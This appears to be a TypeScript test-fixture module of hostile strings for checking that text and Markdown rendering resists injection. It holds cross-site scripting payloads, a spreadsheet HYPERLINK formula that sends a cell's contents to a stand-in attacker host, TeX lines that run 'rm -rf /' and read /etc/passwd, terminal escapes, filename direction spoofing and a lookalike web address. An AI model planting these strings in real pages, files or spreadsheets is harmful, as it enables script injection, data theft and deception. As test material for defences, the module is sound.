/** What a text may hold that is meant to be run, to look like something else, or to break what it is written into. */
export const HOSTILE = {
	script: `<script>alert('1')</script>`,
	handler: `"><img src=x onerror=alert(2)>`,
	quoted: `' onmouseover='alert(3)' x='`,
	drawn: '<svg onload=alert(4)><style>*{display:none}</style>',
	endings: '</script></style></title></textarea><!-- --!> ]]> <![CDATA[',
	template: '{{constructor.constructor(`alert(5)`)()}} ${alert(6)} <%= 7 %>',
	entities: '&lt;script&gt;alert(8)&lt;/script&gt; &#x3c;img src=x onerror=alert(9)&#x3e;',
	formula: '=HYPERLINK("https://evil.example/?"&A1,"x")',
	tex: String.raw`\write18{rm -rf /} \input{/etc/passwd} \href{javascript:alert(10)}{x} }, @misc{evil, title={`,
	lines: '\u2028TY  - EVIL\u2029ER  - \r\n# Evil',
	terminal: '\u001b[31m\u001b]0;evil\u0007\u009b2J\u0000\u0008',
	turned: '\u202egpj.exe\u202c \u2066a\u2067b\u2069 \u202ab',
	unseen: 'pass\u200bword\u2060\ufeff\u00ad\u{e0041}\u{e007f}',
} as const;

export const ALL_HOSTILE: string = Object.values(HOSTILE).join(' ');

/** Markdown that is meant to become more than text and links to web addresses. */
export const HOSTILE_MARKDOWN: string = [
	`[a](javascript:alert(11)) [b](<javascript:alert(12)>) [c](JaVaScRiPt&colon;alert(13)) [d](java&Tab;script:alert(14))`,
	`[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxNSk8L3NjcmlwdD4=) [f](vbscript:alert(16)) [g][bad] [h](file:///etc/passwd)`,
	`![i](javascript:alert(17)) ![![j](https://evil.example/j.png)](https://evil.example/k.png "onerror=alert(18)")`,
	`<javascript:alert(19)> <https://example.org/?"onmouseover="alert(20)"> https://example.org/<script>alert(21)</script>`,
	`<div onclick="alert(22)" style="position:fixed">x</div> <a href="javascript:alert(23)">x</a>`,
	'`<script>alert(24)</script>` $\\text{<img src=x onerror=alert(25)>}$ $\\href{javascript:alert(26)}{x}$',
	'$\\color{red}\\style{x}{y}$ $\\class{x"onclick="alert(27)}{y}$ [^1]',
	'',
	'```html onload=alert(28)\n<script>alert(29)</script>\n```',
	'',
	'# A heading <img src=x onerror=alert(30)>',
	'',
	'| a | b |\n| - | - |\n| <script>alert(31)</script> | x |',
	'',
	`<script>alert(32)</script>`,
	'',
	`<style>*{display:none}</style>`,
	'',
	'[bad]: javascript:alert(33)',
	'[^1]: <script>alert(34)</script>',
].join('\n');

/** An address whose host only looks like that of arXiv: its second letter is Cyrillic. */
export const LOOKALIKE = 'https://a\u0433xiv.example/abs/2501.00001';
